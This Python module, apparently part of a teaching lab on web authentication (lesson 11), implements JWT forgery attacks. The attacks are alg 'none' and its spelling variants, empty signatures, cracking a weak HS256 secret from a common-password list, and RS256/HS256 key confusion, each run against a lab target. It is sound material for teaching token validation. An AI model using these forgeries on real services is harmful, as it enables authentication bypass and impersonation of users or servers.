"""Forge a token: change its header or its key, no more, and see whether it is believed (lesson 11)."""

import hmac
import json
import secrets
from collections.abc import Callable, Iterator, Mapping
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from authlab.encoding import b64url_encode
from authlab.insecure.people import common_passwords
from authlab.jws import take_apart
from authlab.redteam.attack import Attack
from authlab.redteam.evidence import Evidence, told
from authlab.redteam.hs256 import Cracking
from authlab.redteam.presenting import own_token, present
from authlab.redteam.target import Target

Sign = Callable[[bytes], bytes]
SPELLINGS = ("None", "NONE", "nOnE")


def forged(token: str, sign: Sign, *, header: Mapping[str, Any] = {}, claims: Mapping[str, Any] = {}) -> str:
    """Write a token again with other members in its header or claims; `sign` makes the signature's bytes."""
    parts = take_apart(token)
    members = ({**parts.header, **header}, {**json.loads(parts.payload), **claims})
    signed = ".".join(b64url_encode(json.dumps(one, separators=(",", ":")).encode()) for one in members)
    return f"{signed}.{b64url_encode(sign(signed.encode()))}"


def nothing(_signed: bytes) -> bytes:
    """Make the signature of a token that has none."""
    return b""


def mac(key: bytes) -> Sign:
    """Return what signs with HS256 and this key, whatever the key is."""
    return lambda signed: hmac.digest(key, signed, "sha256")


def stretched() -> Iterator[str]:
    """Yield common passwords, and each of them repeated until it has the 32 characters that are asked for."""
    words = common_passwords()
    yield from words
    yield from ((word * 32)[:32] for word in words)


def alg_none(target: Target) -> Evidence:
    """Say that the token is not signed."""
    return present(
        target, "a token with alg none", [forged(own_token(target), nothing, header={"alg": "none"})]
    )


def spellings_of_none(target: Target) -> Evidence:
    """Say so in other letters."""
    own = own_token(target)
    tokens = [forged(own, nothing, header={"alg": alg}) for alg in SPELLINGS]
    return present(target, f"a token with alg {', '.join(SPELLINGS)}", tokens)


def empty_signature(target: Target) -> Evidence:
    """Leave the signature off, and the header as it was."""
    return present(target, "a token with an empty signature", [forged(own_token(target), nothing)])


def weak_secret(target: Target) -> Evidence:
    """Look for the secret in a list of passwords, and sign with it."""
    own = own_token(target)
    cracking = Cracking(own, stretched())
    for _ in cracking:
        pass
    if cracking.secret is None:
        seen = f"the secret is none of {cracking.guesses:,} common passwords"
        return told("dead", seen, target.ask("/auth/me", token=own))
    token = forged(own, mac(cracking.secret.encode()), claims={"jti": secrets.token_urlsafe(12)})
    return present(target, f"a token signed with guess number {cracking.guesses:,}", [token])


def confusion(target: Target) -> Evidence:
    """Sign with the public key, as if it were a secret; where there is none, with a stranger's."""
    stranger = Ed25519PrivateKey.generate().public_key()
    public = getattr(target.parts.read, "public", None)
    key = public or stranger.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    token = forged(own_token(target), mac(key), header={"alg": "HS256"})
    return present(target, f"an HMAC with {'the' if public else 'some'} public key", [token])


ATTACKS = (
    Attack("alg none", "11", alg_none, "Whoever may leave the signature off is whoever they say they are."),
    Attack("spellings of none", "11", spellings_of_none,
           "Refusing one word leaves all the others; only a list of what is allowed leaves none."),
    Attack("empty signature", "11", empty_signature,
           "A check that is left out where there is nothing to check is left out by the attacker."),
    Attack("a weak secret", "11", weak_secret,
           "One token is enough to try passwords against at home; who finds the secret signs as the server."),
    Attack("RS256/HS256 confusion", "11", confusion,
           "Everybody has the public key. If it also serves as a secret, everybody signs as the server."),
)  # fmt: skip
